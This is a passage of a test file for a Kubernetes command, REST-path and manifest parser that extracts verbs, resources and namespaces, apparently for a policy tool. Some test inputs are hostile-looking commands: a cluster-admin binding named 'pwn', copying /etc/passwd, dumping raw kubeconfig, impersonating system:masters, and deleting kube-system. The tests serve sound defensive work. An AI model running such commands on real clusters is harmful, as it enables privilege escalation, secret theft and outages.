import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { EMPTY_K8S_FACTS, K8S_MAX_INPUT, k8sFacet } from '../../src/facets/k8s.js';
import type { K8sFacts, K8sObjectFacts } from '../../src/facets/k8s.js';

type Options = { defaultNamespace?: string; verb?: string };

interface OkCase {
  name: string;
  input: unknown;
  options?: Options;
  /** Core fields not given here must be empty (`''`/`false`); other fields given are compared exactly. */
  want: Partial<K8sFacts>;
}

interface FailCase {
  name: string;
  input: unknown;
  options?: Options;
  source: K8sFacts['source'];
  /** A fragment of the error message. */
  error: string;
}

const CORE = ['parsed', 'error', 'source', 'verb', 'group', 'version', 'resource', 'subresource', 'namespace', 'name', 'kind', 'allNamespaces'] as const;
const CORE_EMPTY: Pick<K8sFacts, (typeof CORE)[number]> = {
  parsed: true, error: '', source: '', verb: '', group: '', version: '', resource: '', subresource: '', namespace: '', name: '', kind: '', allNamespaces: false,
};

function obj(o: Partial<K8sObjectFacts>): K8sObjectFacts {
  return { verb: '', group: '', version: '', resource: '', subresource: '', namespace: '', name: '', kind: '', ...o };
}

const pod = { version: 'v1', resource: 'pods', kind: 'Pod' } as const;
const secret = { version: 'v1', resource: 'secrets', kind: 'Secret' } as const;
const deploy = { group: 'apps', version: 'v1', resource: 'deployments', kind: 'Deployment' } as const;
const node = { version: 'v1', resource: 'nodes', kind: 'Node' } as const;
const kc = (w: Partial<K8sFacts>): Partial<K8sFacts> => ({ source: 'kubectl', ...w });
const rs = (w: Partial<K8sFacts>): Partial<K8sFacts> => ({ source: 'rest', ...w });
const mf = (w: Partial<K8sFacts>): Partial<K8sFacts> => ({ source: 'manifest', ...w });

const KUBECTL: OkCase[] = [
  { name: 'get with no name lists', input: 'kubectl get pods', want: kc({ verb: 'list', ...pod, namespace: 'default', subcommand: 'get', resources: ['pods'], namespaces: ['default'] }) },
  { name: 'get secrets is a list of secrets', input: 'kubectl get secrets', want: kc({ verb: 'list', ...secret, namespace: 'default' }) },
  { name: 'get with a name is get', input: 'kubectl get secret db -o yaml', want: kc({ verb: 'get', ...secret, namespace: 'default', name: 'db' }) },
  { name: 'type/name form', input: 'kubectl get secret/foo', want: kc({ verb: 'get', ...secret, namespace: 'default', name: 'foo' }) },
  { name: 'upper-case resource', input: 'kubectl get SECRETS', want: kc({ verb: 'list', ...secret, namespace: 'default' }) },
  { name: 'kind name as resource', input: 'kubectl get Deployment web', want: kc({ verb: 'get', ...deploy, namespace: 'default', name: 'web' }) },
  { name: 'short name po', input: 'kubectl get po', want: kc({ verb: 'list', ...pod, namespace: 'default' }) },
  { name: 'singular pod', input: 'kubectl get pod x', want: kc({ verb: 'get', ...pod, namespace: 'default', name: 'x' }) },
  { name: 'short name deploy', input: 'kubectl get deploy', want: kc({ verb: 'list', ...deploy, namespace: 'default' }) },
  { name: 'short name ns is cluster-scoped', input: 'kubectl get ns', want: kc({ verb: 'list', version: 'v1', resource: 'namespaces', kind: 'Namespace' }) },
  { name: 'short name no is nodes', input: 'kubectl get no', want: kc({ verb: 'list', ...node }) },
  { name: 'short name pvc', input: 'kubectl get pvc -n data', want: kc({ verb: 'list', version: 'v1', resource: 'persistentvolumeclaims', kind: 'PersistentVolumeClaim', namespace: 'data' }) },
  { name: 'short name pv is cluster-scoped', input: 'kubectl get pv', want: kc({ verb: 'list', version: 'v1', resource: 'persistentvolumes', kind: 'PersistentVolume' }) },
  { name: 'short name sa', input: 'kubectl get sa', want: kc({ verb: 'list', version: 'v1', resource: 'serviceaccounts', kind: 'ServiceAccount', namespace: 'default' }) },
  { name: 'short name netpol', input: 'kubectl get netpol', want: kc({ verb: 'list', group: 'networking.k8s.io', version: 'v1', resource: 'networkpolicies', kind: 'NetworkPolicy', namespace: 'default' }) },
  { name: 'short name crd is cluster-scoped', input: 'kubectl get crd', want: kc({ verb: 'list', group: 'apiextensions.k8s.io', version: 'v1', resource: 'customresourcedefinitions', kind: 'CustomResourceDefinition' }) },
  { name: 'short name cj', input: 'kubectl get cj', want: kc({ verb: 'list', group: 'batch', version: 'v1', resource: 'cronjobs', kind: 'CronJob', namespace: 'default' }) },
  { name: 'crb is not a short name and stays unknown', input: 'kubectl get crb', want: kc({ verb: 'list', resource: 'crb', namespace: 'default', unknownScope: true }) },
  { name: 'comma list reports every resource', input: 'kubectl get pods,secrets', want: kc({ verb: 'list', ...pod, namespace: 'default', resources: ['pods', 'secrets'], kinds: ['Pod', 'Secret'] }) },
  { name: 'comma list of short names', input: 'kubectl get secret,cm', want: kc({ verb: 'list', ...secret, namespace: 'default', resources: ['secrets', 'configmaps'] }) },
  { name: 'comma list secret,configmap', input: 'kubectl get secret,configmap -n x', want: kc({ verb: 'list', ...secret, namespace: 'x', resources: ['secrets', 'configmaps'], namespaces: ['x'] }) },
  { name: 'duplicate and empty comma entries collapse', input: 'kubectl get secrets,,secrets,', want: kc({ verb: 'list', ...secret, namespace: 'default', resources: ['secrets'], objects: [obj({ verb: 'list', ...secret, namespace: 'default' })] }) },
  {
    name: 'several names give one object each',
    input: 'kubectl get pods foo bar',
    want: kc({ verb: 'get', ...pod, namespace: 'default', name: 'foo', objects: [obj({ verb: 'get', ...pod, namespace: 'default', name: 'foo' }), obj({ verb: 'get', ...pod, namespace: 'default', name: 'bar' })] }),
  },
  { name: 'resource.version. (core group)', input: 'kubectl get secrets.v1.', want: kc({ verb: 'list', ...secret, namespace: 'default' }) },
  { name: 'resource.v1 reads v1 as a group', input: 'kubectl get secrets.v1', want: kc({ verb: 'list', resource: 'secrets', group: 'v1', namespace: 'default', unknownScope: true }) },
  { name: 'resource.group', input: 'kubectl get deployments.apps', want: kc({ verb: 'list', ...deploy, namespace: 'default' }) },
  { name: 'resource.version.group', input: 'kubectl get deployments.v1.apps web', want: kc({ verb: 'get', ...deploy, namespace: 'default', name: 'web' }) },
  { name: 'custom resource keeps its group', input: 'kubectl get certificates.cert-manager.io -n x', want: kc({ verb: 'list', resource: 'certificates', group: 'cert-manager.io', namespace: 'x', unknownScope: true }) },
  { name: "'all' is reported as all", input: 'kubectl get all', want: kc({ verb: 'list', resource: 'all', namespace: 'default', resources: ['all'], unknownScope: true }) },
  { name: '-n x', input: 'kubectl get pods -n prod', want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
  { name: '-nx', input: 'kubectl get pods -nprod', want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
  { name: '-n=x', input: 'kubectl get pods -n=prod', want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
  { name: '--namespace x', input: 'kubectl get pods --namespace prod', want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
  { name: '--namespace=x', input: 'kubectl get pods --namespace=prod', want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
  { name: '-n before the subcommand', input: 'kubectl -n prod get pods', want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
  { name: '-n between resource and name', input: 'kubectl get secret -n kube-system token', want: kc({ verb: 'get', ...secret, namespace: 'kube-system', name: 'token' }) },
  { name: 'the last -n wins', input: 'kubectl -n dev get pods --namespace=staging -n kube-system', want: kc({ verb: 'list', ...pod, namespace: 'kube-system' }) },
  { name: 'a later empty --namespace= resets to the default', input: 'kubectl get pods -n prod --namespace=', want: kc({ verb: 'list', ...pod, namespace: 'default' }) },
  { name: '-A lists across namespaces', input: 'kubectl get secrets -A', want: kc({ verb: 'list', ...secret, allNamespaces: true, namespaces: [] }) },
  { name: '-A overrides -n', input: 'kubectl get secrets -n prod --all-namespaces', want: kc({ verb: 'list', ...secret, allNamespaces: true }) },
  { name: 'underscore spelling of a long flag', input: 'kubectl get pods --all_namespaces', want: kc({ verb: 'list', ...pod, allNamespaces: true }) },
  { name: '-A=false is not all namespaces', input: 'kubectl get pods -A=false -n x', want: kc({ verb: 'list', ...pod, namespace: 'x' }) },
  { name: '-A on a cluster-scoped resource', input: 'kubectl get nodes -A', want: kc({ verb: 'list', ...node }) },
  { name: 'watch flag', input: 'kubectl get pods -w', want: kc({ verb: 'watch', ...pod, namespace: 'default' }) },
  { name: '--watch-only', input: 'kubectl get secret s --watch-only', want: kc({ verb: 'watch', ...secret, namespace: 'default', name: 's' }) },
  { name: 'options.defaultNamespace replaces default', input: 'kubectl get pods', options: { defaultNamespace: 'team-a' }, want: kc({ verb: 'list', ...pod, namespace: 'team-a' }) },
  { name: 'get --raw parses the path', input: 'kubectl get --raw /api/v1/namespaces/kube-system/secrets', want: kc({ verb: 'list', ...secret, namespace: 'kube-system', path: '/api/v1/namespaces/kube-system/secrets' }) },
  { name: 'get --raw with percent-encoding', input: "kubectl get --raw '/api/v1/namespaces/%6bube-system/secrets/x'", want: kc({ verb: 'get', ...secret, namespace: 'kube-system', name: 'x' }) },
  { name: 'quoted program name and words', input: `"kubectl" 'get' "pods" -n 'prod'`, want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
  { name: 'backslash inside the program name', input: 'kub\\ectl get pods', want: kc({ verb: 'list', ...pod, namespace: 'default' }) },
  { name: 'absolute path to kubectl', input: '/usr/local/bin/kubectl get pods', want: kc({ verb: 'list', ...pod, namespace: 'default' }) },
  { name: 'oc is accepted', input: 'oc get pods -n x', want: kc({ verb: 'list', ...pod, namespace: 'x' }) },
  { name: 'line without the program name', input: 'get pods -n x', want: kc({ verb: 'list', ...pod, namespace: 'x' }) },
  { name: 'argv with kubectl', input: ['kubectl', 'get', 'pods', '-n', 'x'], want: kc({ verb: 'list', ...pod, namespace: 'x' }) },
  { name: 'argv without kubectl', input: ['get', 'pods', '-n', 'x'], want: kc({ verb: 'list', ...pod, namespace: 'x' }) },
  { name: 'argv starting with a flag', input: ['-n', 'x', 'get', 'pods'], want: kc({ verb: 'list', ...pod, namespace: 'x' }) },
  { name: 'argv words are literal (no shell)', input: ['kubectl', 'get', 'pods', 'a;b'], want: kc({ verb: 'get', ...pod, namespace: 'default', name: 'a;b' }) },
  { name: 'words after -- are names for get, not flags', input: 'kubectl get pods -- -n kube-system', want: kc({ verb: 'get', ...pod, namespace: 'default', name: '-n' }) },
  { name: 'describe with a name', input: 'kubectl describe secret db', want: kc({ verb: 'get', ...secret, namespace: 'default', name: 'db' }) },
  { name: 'describe without a name', input: 'kubectl describe pods', want: kc({ verb: 'list', ...pod, namespace: 'default' }) },
  { name: 'create -f reads a file it cannot see', input: 'kubectl create -f x.yaml', want: kc({ verb: 'create', fromFile: true, unknownScope: true, subcommand: 'create' }) },
  { name: 'apply -f keeps apply', input: 'kubectl apply -f m.yaml', want: kc({ verb: 'apply', fromFile: true, unknownScope: true }) },
  { name: 'apply -f with -n pins the namespace', input: 'kubectl apply -n prod -f m.yaml', want: kc({ verb: 'apply', namespace: 'prod', fromFile: true, unknownScope: true }) },
  { name: 'apply --prune also deletes', input: 'kubectl apply -f m.yaml --prune -l app=x', want: kc({ verb: 'apply', fromFile: true, unknownScope: true, verbs: ['apply', 'delete'] }) },
  { name: 'apply --dry-run=client', input: 'kubectl apply -f m.yaml --dry-run=client', want: kc({ verb: 'apply', fromFile: true, unknownScope: true, dryRun: 'client' }) },
  { name: 'replace is update', input: 'kubectl replace -f m.yaml', want: kc({ verb: 'update', fromFile: true, unknownScope: true }) },
  { name: 'create --raw is a POST', input: 'kubectl create --raw /api/v1/namespaces/x/pods -f body.json', want: kc({ verb: 'create', ...pod, namespace: 'x', path: '/api/v1/namespaces/x/pods' }) },
  { name: 'create secret generic', input: 'kubectl create secret generic db --from-literal=p=x -n prod', want: kc({ verb: 'create', ...secret, namespace: 'prod', name: 'db', subcommand: 'create secret generic' }) },
  { name: 'create deploy alias', input: 'kubectl create deploy web --image=nginx', want: kc({ verb: 'create', ...deploy, namespace: 'default', name: 'web', subcommand: 'create deployment' }) },
  { name: 'create clusterrolebinding is cluster-scoped', input: 'kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --user=me', want: kc({ verb: 'create', group: 'rbac.authorization.k8s.io', version: 'v1', resource: 'clusterrolebindings', kind: 'ClusterRoleBinding', name: 'pwn' }) },
  { name: 'create token', input: 'kubectl create token default -n kube-system', want: kc({ verb: 'create', version: 'v1', resource: 'serviceaccounts', kind: 'ServiceAccount', subresource: 'token', namespace: 'kube-system', name: 'default' }) },
  { name: 'create namespace: namespace is its name', input: 'kubectl create ns team-b', want: kc({ verb: 'create', version: 'v1', resource: 'namespaces', kind: 'Namespace', namespace: 'team-b', name: 'team-b' }) },
  { name: 'delete namespace kube-system reports kube-system', input: 'kubectl delete ns kube-system', want: kc({ verb: 'delete', version: 'v1', resource: 'namespaces', kind: 'Namespace', namespace: 'kube-system', name: 'kube-system' }) },
  { name: 'delete --all', input: 'kubectl delete pods --all -n x --dry-run=server', want: kc({ verb: 'delete', ...pod, namespace: 'x', dryRun: 'server' }) },
  { name: 'edit is patch', input: 'kubectl edit svc/web', want: kc({ verb: 'patch', version: 'v1', resource: 'services', kind: 'Service', namespace: 'default', name: 'web' }) },
  { name: 'patch with --subresource', input: "kubectl patch deploy web --subresource=status -p '{}'", want: kc({ verb: 'patch', ...deploy, subresource: 'status', namespace: 'default', name: 'web' }) },
  { name: 'logs is get pods/log', input: 'kubectl logs -f web -n prod', want: kc({ verb: 'get', ...pod, subresource: 'log', namespace: 'prod', name: 'web' }) },
  {
    name: 'logs of a deployment reads a pod it picks and the deployment',
    input: 'kubectl logs deploy/web',
    want: kc({ verb: 'get', ...pod, subresource: 'log', namespace: 'default', objects: [obj({ verb: 'get', ...pod, subresource: 'log', namespace: 'default' }), obj({ verb: 'get', ...deploy, namespace: 'default', name: 'web' })] }),
  },
  { name: 'exec is create pods/exec', input: 'kubectl exec -it web -n prod -- sh -c "id"', want: kc({ verb: 'create', ...pod, subresource: 'exec', namespace: 'prod', name: 'web', command: ['sh', '-c', 'id'] }) },
  { name: '-n after -- belongs to the command', input: 'kubectl exec web -- kubectl -n kube-system get secrets', want: kc({ verb: 'create', ...pod, subresource: 'exec', namespace: 'default', name: 'web', command: ['kubectl', '-n', 'kube-system', 'get', 'secrets'] }) },
  { name: 'attach', input: 'kubectl attach web -i', want: kc({ verb: 'create', ...pod, subresource: 'attach', namespace: 'default', name: 'web' }) },
  { name: 'port-forward keeps its name', input: 'kubectl port-forward pod/web 8080:80', want: kc({ verb: 'port-forward', ...pod, subresource: 'portforward', namespace: 'default', name: 'web' }) },
  { name: 'proxy has no resource', input: 'kubectl proxy --port=8001', want: kc({ verb: 'proxy', subcommand: 'proxy' }) },
  { name: 'cp to a pod in another namespace via the spec', input: 'kubectl cp ./x kube-system/etcd-0:/tmp/x', want: kc({ verb: 'create', ...pod, subresource: 'exec', namespace: 'kube-system', name: 'etcd-0' }) },
  { name: 'cp from a pod', input: 'kubectl cp web:/etc/passwd ./p -n prod', want: kc({ verb: 'create', ...pod, subresource: 'exec', namespace: 'prod', name: 'web' }) },
  { name: 'scale is patch deployments/scale', input: 'kubectl scale deploy/web --replicas=0', want: kc({ verb: 'patch', ...deploy, subresource: 'scale', namespace: 'default', name: 'web' }) },
  { name: 'rollout restart is patch', input: 'kubectl rollout restart deployment web -n prod', want: kc({ verb: 'patch', ...deploy, namespace: 'prod', name: 'web', subcommand: 'rollout restart' }) },
  { name: 'rollout status watches', input: 'kubectl rollout status deploy/web', want: kc({ verb: 'watch', ...deploy, namespace: 'default', name: 'web' }) },
  { name: 'label is patch', input: 'kubectl label pods web tier=db --overwrite', want: kc({ verb: 'patch', ...pod, namespace: 'default', name: 'web' }) },
  { name: 'annotate is patch', input: 'kubectl annotate secret db note=x', want: kc({ verb: 'patch', ...secret, namespace: 'default', name: 'db' }) },
  { name: 'set image is patch', input: 'kubectl set image deploy/web app=nginx:2', want: kc({ verb: 'patch', ...deploy, namespace: 'default', name: 'web' }) },
  { name: 'auth can-i', input: 'kubectl auth can-i delete pods', want: kc({ verb: 'create', group: 'authorization.k8s.io', version: 'v1', resource: 'selfsubjectaccessreviews', kind: 'SelfSubjectAccessReview', subcommand: 'auth can-i' }) },
  { name: 'top pods is metrics', input: 'kubectl top pod -A', want: kc({ verb: 'list', group: 'metrics.k8s.io', version: 'v1beta1', resource: 'pods', kind: 'PodMetrics', allNamespaces: true }) },
  { name: 'cordon is patch nodes', input: 'kubectl cordon n1', want: kc({ verb: 'patch', ...node, name: 'n1' }) },
  {
    name: 'drain patches the node and evicts pods everywhere',
    input: 'kubectl drain n1 --ignore-daemonsets',
    want: kc({ verb: 'patch', ...node, name: 'n1', allNamespaces: true, verbs: ['patch', 'create'], objects: [obj({ verb: 'patch', ...node, name: 'n1' }), obj({ verb: 'create', ...pod, subresource: 'eviction' })] }),
  },
  { name: 'run is create pods', input: 'kubectl run x --image=busybox --restart=Never -- sleep 1', want: kc({ verb: 'create', ...pod, namespace: 'default', name: 'x', command: ['sleep', '1'] }) },
  { name: 'run --rm -it also attaches and deletes', input: 'kubectl run x --image=busybox --rm -it -- sh', want: kc({ verb: 'create', ...pod, namespace: 'default', name: 'x', verbs: ['create', 'delete'] }) },
  { name: 'expose creates a service', input: 'kubectl expose deploy web --port=80', want: kc({ verb: 'create', version: 'v1', resource: 'services', kind: 'Service', namespace: 'default', name: 'web', resources: ['services', 'deployments'] }) },
  { name: 'debug a pod adds an ephemeral container', input: 'kubectl debug web --image=busybox', want: kc({ verb: 'patch', ...pod, subresource: 'ephemeralcontainers', namespace: 'default', name: 'web' }) },
  { name: 'config has no resource', input: 'kubectl config view --raw', want: kc({ verb: 'config', subcommand: 'config view' }) },
  { name: 'config set-context --namespace is not the global flag', input: 'kubectl config set-context --current --namespace=kube-system', want: kc({ verb: 'config', subcommand: 'config set-context' }) },
  { name: '--help does nothing', input: 'kubectl delete ns kube-system --help', want: kc({ verb: 'help', subcommand: 'delete' }) },
  {
    name: '--as adds an impersonate object',
    input: 'kubectl --as=system:serviceaccount:kube-system:admin get secrets',
    want: kc({ verb: 'list', ...secret, namespace: 'default', impersonate: 'system:serviceaccount:kube-system:admin', verbs: ['list', 'impersonate'], resources: ['secrets', 'serviceaccounts'] }),
  },
  {
    name: '--as-group adds impersonate groups',
    input: 'kubectl --as=bob --as-group=system:masters get nodes',
    want: kc({ verb: 'list', ...node, impersonate: 'bob', resources: ['nodes', 'users', 'groups'], verbs: ['list', 'impersonate'] }),
  },
  { name: 'get -f reads the named objects', input: 'kubectl get -f x.yaml', want: kc({ verb: 'get', fromFile: true, unknownScope: true }) },
  { name: 'connection flags are reported', input: 'kubectl get pods --context prod --kubeconfig /k -s https://x:6443 --user admin --cluster c', want: kc({ verb: 'list', ...pod, namespace: 'default', context: 'prod', kubeconfig: '/k', server: 'https://x:6443', user: 'admin', cluster: 'c' }) },
  { name: 'line continuation', input: 'kubectl get pods \\\n -n prod', want: kc({ verb: 'list', ...pod, namespace: 'prod' }) },
];

const REST: OkCase[] = [
  { name: 'namespaced list', input: '/api/v1/namespaces/prod/secrets', want: rs({ verb: 'list', ...secret, namespace: 'prod', path: '/api/v1/namespaces/prod/secrets' }) },
  { name: 'percent-encoded namespace is decoded', input: '/api/v1/namespaces/%70roduction/secrets', want: rs({ verb: 'list', ...secret, namespace: 'production', path: '/api/v1/namespaces/production/secrets' }) },
  { name: 'percent-encoded resource is decoded', input: '/api/v1/namespaces/x/%73ecrets/db', want: rs({ verb: 'get', ...secret, namespace: 'x', name: 'db' }) },
  { name: 'named get', input: '/api/v1/namespaces/x/secrets/db', want: rs({ verb: 'get', ...secret, namespace: 'x', name: 'db' }) },
  { name: 'group path', input: '/apis/apps/v1/namespaces/x/deployments/web', want: rs({ verb: 'get', ...deploy, namespace: 'x', name: 'web' }) },
  { name: 'subresource scale', input: '/apis/apps/v1/namespaces/x/deployments/web/scale', options: { verb: 'PUT' }, want: rs({ verb: 'update', ...deploy, subresource: 'scale', namespace: 'x', name: 'web' }) },
  { name: 'status subresource', input: '/api/v1/namespaces/x/pods/web/status', options: { verb: 'PATCH' }, want: rs({ verb: 'patch', ...pod, subresource: 'status', namespace: 'x', name: 'web' }) },
  { name: 'exec is create even over GET', input: '/api/v1/namespaces/x/pods/web/exec?command=sh&stdin=true', want: rs({ verb: 'create', ...pod, subresource: 'exec', namespace: 'x', name: 'web' }) },
  { name: 'exec over POST', input: '/api/v1/namespaces/x/pods/web/exec', options: { verb: 'POST' }, want: rs({ verb: 'create', ...pod, subresource: 'exec', namespace: 'x', name: 'web' }) },
  { name: 'log subresource', input: '/api/v1/namespaces/x/pods/web/log?follow=true', want: rs({ verb: 'get', ...pod, subresource: 'log', namespace: 'x', name: 'web' }) },
  { name: 'attach', input: '/api/v1/namespaces/x/pods/web/attach', want: rs({ verb: 'create', ...pod, subresource: 'attach', namespace: 'x', name: 'web' }) },
  { name: 'portforward', input: '/api/v1/namespaces/x/pods/web/portforward', want: rs({ verb: 'create', ...pod, subresource: 'portforward', namespace: 'x', name: 'web' }) },
  { name: 'watch prefix', input: '/api/v1/watch/namespaces/x/pods', want: rs({ verb: 'watch', ...pod, namespace: 'x' }) },
  { name: 'watch prefix across namespaces', input: '/api/v1/watch/secrets', want: rs({ verb: 'watch', ...secret, allNamespaces: true }) },
  { name: '?watch=true', input: '/api/v1/namespaces/x/secrets?watch=true', want: rs({ verb: 'watch', ...secret, namespace: 'x' }) },
  { name: '?watch=1', input: '/api/v1/namespaces/x/secrets?watch=1', want: rs({ verb: 'watch', ...secret, namespace: 'x' }) },
  { name: 'bare ?watch', input: '/api/v1/namespaces/x/secrets?watch', want: rs({ verb: 'watch', ...secret, namespace: 'x' }) },
  { name: 'encoded watch key', input: '/api/v1/namespaces/x/secrets?%77atch=yes', want: rs({ verb: 'watch', ...secret, namespace: 'x' }) },
  { name: '?watch=false is a list', input: '/api/v1/namespaces/x/secrets?watch=false', want: rs({ verb: 'list', ...secret, namespace: 'x' }) },
  { name: '?watch=0 is a list', input: '/api/v1/namespaces/x/secrets?watch=0&limit=5', want: rs({ verb: 'list', ...secret, namespace: 'x' }) },
  { name: 'first watch value counts', input: '/api/v1/namespaces/x/secrets?watch=true&watch=false', want: rs({ verb: 'watch', ...secret, namespace: 'x' }) },
  { name: 'service proxy subresource', input: '/api/v1/namespaces/x/services/web:80/proxy/admin/delete', want: rs({ verb: 'get', version: 'v1', resource: 'services', kind: 'Service', subresource: 'proxy', namespace: 'x', name: 'web:80' }) },
  { name: 'pod proxy with a port', input: '/api/v1/namespaces/x/pods/y:8080/proxy', want: rs({ verb: 'get', ...pod, subresource: 'proxy', namespace: 'x', name: 'y:8080' }) },
  { name: 'proxy prefix verb', input: '/api/v1/proxy/namespaces/x/services/web/admin', want: rs({ verb: 'proxy', version: 'v1', resource: 'services', kind: 'Service', namespace: 'x', name: 'web' }) },
  { name: 'node proxy', input: '/api/v1/nodes/n1/proxy/configz', want: rs({ verb: 'get', ...node, subresource: 'proxy', name: 'n1' }) },
  { name: 'list across namespaces', input: '/api/v1/pods', want: rs({ verb: 'list', ...pod, allNamespaces: true }) },
  { name: 'cluster-scoped list', input: '/api/v1/nodes', want: rs({ verb: 'list', ...node }) },
  { name: 'namespace object: namespace is its name', input: '/api/v1/namespaces/kube-system', options: { verb: 'DELETE' }, want: rs({ verb: 'delete', version: 'v1', resource: 'namespaces', kind: 'Namespace', namespace: 'kube-system', name: 'kube-system' }) },
  { name: 'namespace finalize', input: '/api/v1/namespaces/x/finalize', options: { verb: 'PUT' }, want: rs({ verb: 'update', version: 'v1', resource: 'namespaces', kind: 'Namespace', subresource: 'finalize', namespace: 'x', name: 'x' }) },
  { name: 'DELETE without a name is deletecollection', input: '/api/v1/namespaces/x/secrets', options: { verb: 'DELETE' }, want: rs({ verb: 'deletecollection', ...secret, namespace: 'x' }) },
  { name: 'POST is create', input: '/api/v1/namespaces/x/pods', options: { verb: 'post' }, want: rs({ verb: 'create', ...pod, namespace: 'x' }) },
  { name: 'API verb accepted as options.verb', input: '/api/v1/namespaces/x/pods/y', options: { verb: 'update' }, want: rs({ verb: 'update', ...pod, namespace: 'x', name: 'y' }) },
  { name: 'method before the path', input: 'POST /api/v1/namespaces/x/pods/y/exec', want: rs({ verb: 'create', ...pod, subresource: 'exec', namespace: 'x', name: 'y' }) },
  { name: 'full URL', input: 'https://10.0.0.1:6443/api/v1/namespaces/x/secrets/db?pretty=1', want: rs({ verb: 'get', ...secret, namespace: 'x', name: 'db', server: '10.0.0.1:6443' }) },
  { name: 'RBAC group', input: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', options: { verb: 'POST' }, want: rs({ verb: 'create', group: 'rbac.authorization.k8s.io', version: 'v1', resource: 'clusterrolebindings', kind: 'ClusterRoleBinding' }) },
  { name: 'custom resource', input: '/apis/cert-manager.io/v1/namespaces/x/certificates', want: rs({ verb: 'list', group: 'cert-manager.io', version: 'v1', resource: 'certificates', namespace: 'x', unknownScope: true }) },
  { name: 'upper-case resource is lower-cased', input: '/api/v1/namespaces/x/SECRETS', want: rs({ verb: 'list', ...secret, namespace: 'x' }) },
  { name: 'trailing slash', input: '/api/v1/namespaces/x/secrets/', want: rs({ verb: 'list', ...secret, namespace: 'x' }) },
  { name: 'dryRun=All', input: '/api/v1/namespaces/x/pods?dryRun=All', options: { verb: 'POST' }, want: rs({ verb: 'create', ...pod, namespace: 'x', dryRun: 'server' }) },
  { name: 'non-resource path', input: '/healthz', want: rs({ verb: 'get', path: '/healthz' }) },
  { name: 'discovery path', input: '/apis/apps/v1', want: rs({ verb: 'get', path: '/apis/apps/v1' }) },
];

const CM = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cfg\n';
const MANIFEST: OkCase[] = [
  { name: 'single YAML object', input: CM, want: mf({ verb: 'create', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'default', name: 'cfg' }) },
  { name: 'explicit namespace', input: 'apiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: kube-system}\n', want: mf({ verb: 'create', ...secret, namespace: 'kube-system', name: 's' }) },
  { name: 'options.verb', input: CM, options: { verb: 'delete' }, want: mf({ verb: 'delete', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'default', name: 'cfg' }) },
  { name: 'HTTP method as options.verb', input: CM, options: { verb: 'PUT' }, want: mf({ verb: 'update', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'default', name: 'cfg' }) },
  { name: 'defaultNamespace applies to objects without one', input: CM, options: { defaultNamespace: 'team-a' }, want: mf({ verb: 'create', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'team-a', name: 'cfg' }) },
  {
    name: 'hidden second document (Secret)',
    input: `${CM}---\napiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: kube-system}\n`,
    want: mf({ verb: 'create', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'default', name: 'cfg', resources: ['configmaps', 'secrets'], namespaces: ['default', 'kube-system'], kinds: ['ConfigMap', 'Secret'] }),
  },
  {
    name: 'hidden second document (ClusterRoleBinding) is cluster-scoped',
    input: `${CM}--- # more\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: pwn, namespace: default}\n`,
    want: mf({
      verb: 'create', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'default', name: 'cfg',
      objects: [
        obj({ verb: 'create', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'default', name: 'cfg' }),
        obj({ verb: 'create', group: 'rbac.authorization.k8s.io', version: 'v1', resource: 'clusterrolebindings', kind: 'ClusterRoleBinding', name: 'pwn' }),
      ],
    }),
  },
  { name: 'empty documents are skipped', input: `---\n# nothing\n---\n${CM}---\n`, want: mf({ verb: 'create', version: 'v1', resource: 'configmaps', kind: 'ConfigMap', namespace: 'default', name: 'cfg' }) },
  {
    name: 'kind: List items are the objects',
    input: 'apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: Secret\n  metadata: {name: a}\n- apiVersion: apps/v1\n  kind: Deployment\n  metadata: {name: b, namespace: prod}\n',
    want: mf({ verb: 'create', ...secret, namespace: 'default', name: 'a', resources: ['secrets', 'deployments'], namespaces: ['default', 'prod'] }),
  },
  { name: 'any object with items is a list', input: '{"apiVersion":"v1","kind":"ConfigMap","items":[{"apiVersion":"v1","kind":"Secret","metadata":{"name":"s"}}]}', want: mf({ verb: 'create', ...secret, namespace: 'default', name: 's', resources: ['secrets'] }) },
  { name: 'JSON manifest', input: '{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"prod"}}', want: mf({ verb: 'create', ...deploy, namespace: 'prod', name: 'web' }) },
  { name: 'JSON array of objects', input: '[{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"}},{"apiVersion":"v1","kind":"Node","metadata":{"name":"n"}}]', want: mf({ verb: 'create', ...pod, namespace: 'default', name: 'p', resources: ['pods', 'nodes'] }) },
  { name: 'parsed object', input: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'x' } }, want: mf({ verb: 'create', ...secret, namespace: 'x', name: 's' }) },
  { name: 'parsed array', input: [{ apiVersion: 'v1', kind: 'Secret', metadata: { name: 's' } }, { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'kube-system' } }], want: mf({ verb: 'create', ...secret, namespace: 'default', name: 's', namespaces: ['default', 'kube-system'] }) },
  { name: 'namespace object: namespace is its name', input: 'apiVersion: v1\nkind: Namespace\nmetadata: {name: team-c}\n', want: mf({ verb: 'create', version: 'v1', resource: 'namespaces', kind: 'Namespace', namespace: 'team-c', name: 'team-c' }) },
  { name: 'lower-case kind still maps', input: 'apiVersion: v1\nkind: secret\nmetadata: {name: s}\n', want: mf({ verb: 'create', ...secret, namespace: 'default', name: 's' }) },
